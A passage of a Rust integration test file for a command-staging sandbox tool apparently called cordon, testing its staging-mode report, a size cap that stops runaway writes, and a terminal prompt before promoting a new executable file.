        .is_symlink());
    assert!(!upper.join("secret.txt").exists());
    let set = f.changes(&id);
    assert_eq!(set["entries"].as_array().unwrap().len(), 1, "{set}");
    assert!(entry(&set, "a.txt", "modified").is_some(), "{set}");
}

/// `cordon doctor` says which staging is in force: overlayfs where it
/// mounts, the copy fallback (and why) where it does not.
#[test]
fn doctor_says_which_staging_is_in_force() {
    if !staging_available() {
        return;
    }
    for f in [Fixture::new(), Fixture::copy()] {
        let mut c = Command::new(cordon_bin());
        c.arg("doctor").stdin(Stdio::null());
        f.env(&mut c);
        let out = c.output().unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        let line = text
            .lines()
            .find(|l| l.contains("staging"))
            .unwrap_or_else(|| panic!("no staging line: {text}"));
        if f.copy {
            assert!(
                line.contains("copy fallback") && line.contains("test switch"),
                "{line}"
            );
        } else {
            assert!(line.contains("run --stage: overlayfs"), "{line}");
        }
    }
}

/// Layer: the stage watch (cli/stage_cmd.rs `Watch`, on the supervisor's
/// tick). A run that keeps writing past `[stage] max_size` is stopped
/// while it goes, not when it ends: it never reaches its last line, the
/// stage is discarded and the host tree is untouched. One file larger than
/// the cap is cut at the cap (RLIMIT_FSIZE). Without the watch the run
/// would finish (after its sleep) and only then be discarded.
fn stage_size_cap_stops_a_run_while_it_goes(f: Fixture) {
    f.file("a.txt", "a\n", 0o644);
    let before = snapshot(&f.repo);
    let started = std::time::Instant::now();
    let (o, _) = f.staged_with_profile(
        "[stage]\nmax_size = \"256KiB\"\n",
        "i=0; while [ $i -lt 200 ]; do head -c 4096 /dev/zero > f$i.bin; i=$((i+1)); done; \
         sleep 5; echo survived",
    );
    assert_eq!(o.code, 125, "{}", o.stderr);
    assert!(
        o.stderr.contains("stopped") && o.stderr.contains("max_size cap of 262144 bytes"),
        "{}",
        o.stderr
    );
    assert!(!o.stdout.contains("survived"), "{}", o.stdout);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(5),
        "the run was stopped before its sleep ended"
    );
    assert_eq!(f.stages_left(), 0);
    assert_eq!(snapshot(&f.repo), before);

    // An empty tree, so that the file cut at the cap is all the stage
    // holds (a copy holds the tree too) and the watch does not stop it.
    std::fs::remove_file(f.repo.join("a.txt")).unwrap();
    let before = snapshot(&f.repo);
    let (o, _) = f.staged_with_profile(
        "[stage]\nmax_size = \"64KiB\"\n",
        "head -c 200000 /dev/zero > big.bin; echo $?; wc -c < big.bin",
    );
    assert_eq!(
        o.stdout.lines().nth(1),
        Some("65536"),
        "{} {}",
        o.stdout,
        o.stderr
    );
    assert_eq!(snapshot(&f.repo), before);
}

both_modes!(
    stage_size_cap_stops_a_run_while_it_goes,
    stage_size_cap_stops_a_run_while_it_goes_overlay,
    copy_fallback_size_cap_stops_a_run_while_it_goes
);

/// `cordon promote ID` on a real terminal: a pty is its stdin, stdout and
/// stderr; each `[y/N]` prompt that appears is answered with `answer`
/// (only after it appeared). Returns the exit code, what the terminal
/// showed, and how many prompts there were.
fn promote_on_terminal(f: &Fixture, id: &str, answer: &str) -> (i32, String, usize) {
    use std::io::{Read, Write};
    let master = rustix::pty::openpt(
        rustix::pty::OpenptFlags::RDWR
            | rustix::pty::OpenptFlags::NOCTTY
            | rustix::pty::OpenptFlags::CLOEXEC,
    )
    .unwrap();
    rustix::pty::grantpt(&master).unwrap();
    rustix::pty::unlockpt(&master).unwrap();
    let name = rustix::pty::ptsname(&master, Vec::new()).unwrap();
    let mut child = {
        let slave = std::fs::OpenOptions::new()
            .read(true)
            .write(true)
            .open(name.to_str().unwrap())
            .unwrap();
        Command::new(cordon_bin())
            .args(["promote", id])
            .current_dir(f.work.path())
            .env("XDG_STATE_HOME", f.state.path())
            .stdin(slave.try_clone().unwrap())
            .stdout(slave.try_clone().unwrap())
            .stderr(slave)
            .spawn()
            .unwrap()
    }; // the terminal's other end is the child's alone now
    let mut master = std::fs::File::from(master);
    let mut seen = String::new();
    let mut answered = 0;
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    loop {
        let mut fds = [rustix::event::PollFd::new(
            &master,
            rustix::event::PollFlags::IN,
        )];
        let left = deadline.saturating_duration_since(std::time::Instant::now());
        assert!(!left.is_zero(), "no end of the promotion: {seen}");
        let timeout = rustix::event::Timespec::try_from(left).unwrap();
        if rustix::event::poll(&mut fds, Some(&timeout)).unwrap() == 0 {
            continue;
        }
        let mut buf = [0u8; 4096];
        match master.read(&mut buf) {
            Ok(0) | Err(_) => break, // EIO: the child closed the terminal
            Ok(n) => seen.push_str(&String::from_utf8_lossy(&buf[..n])),
        }
        if seen.matches("[y/N] ").count() > answered {
            answered += 1;
            master.write_all(format!("{answer}\n").as_bytes()).unwrap();
        }
    }
    let code = child.wait().unwrap().code().unwrap_or(-1);
    (code, seen, answered)
}

/// Layer: the `ask` rules' terminal approval (cli/stage_cmd.rs
/// `ask_terminal`). On a real terminal, `cordon promote` asks about a newly
/// executable file: "n" refuses the whole promotion (nothing applied),
/// "y" promotes it with the rest. Without a terminal the same promotion is
/// refused naming `--allow new-executable`.
#[test]
fn ask_rules_are_answered_on_a_terminal() {
    if !staging_available() {
        return;
    }
    let f = Fixture::new();
    f.file("a.txt", "a\n", 0o644);
    let (o, id) =
        f.staged("echo edit > a.txt && printf '#!/bin/sh\\n' > tool.sh && chmod 755 tool.sh");
    assert_eq!(o.code, 0, "{}", o.stderr);
    let before = snapshot(&f.repo);

    let (code, err) = f.promote(&id, &[]);
    assert_eq!(code, 125, "without a terminal: {err}");
    assert!(err.contains("--allow new-executable"), "{err}");

    let (code, shown, prompts) = promote_on_terminal(&f, &id, "n");
    assert_eq!(prompts, 1, "{shown}");
    assert!(
        shown.contains("promote added tool.sh (rule new-executable asks)? [y/N]"),
        "{shown}"
    );
    assert_eq!(code, 125, "{shown}");
    assert_eq!(snapshot(&f.repo), before, "a no applies nothing");

    let (code, shown, prompts) = promote_on_terminal(&f, &id, "y");
    assert_eq!((code, prompts), (0, 1), "{shown}");
    assert!(shown.contains("promoted 2 change(s)"), "{shown}");
    assert_eq!(
        std::fs::read_to_string(f.repo.join("a.txt")).unwrap(),
        "edit\n"
    );
    let mode = std::fs::metadata(f.repo.join("tool.sh")).unwrap().mode();
    assert_eq!(mode & 0o777, 0o755);
    assert_eq!(f.promotions().len(), 1);
}
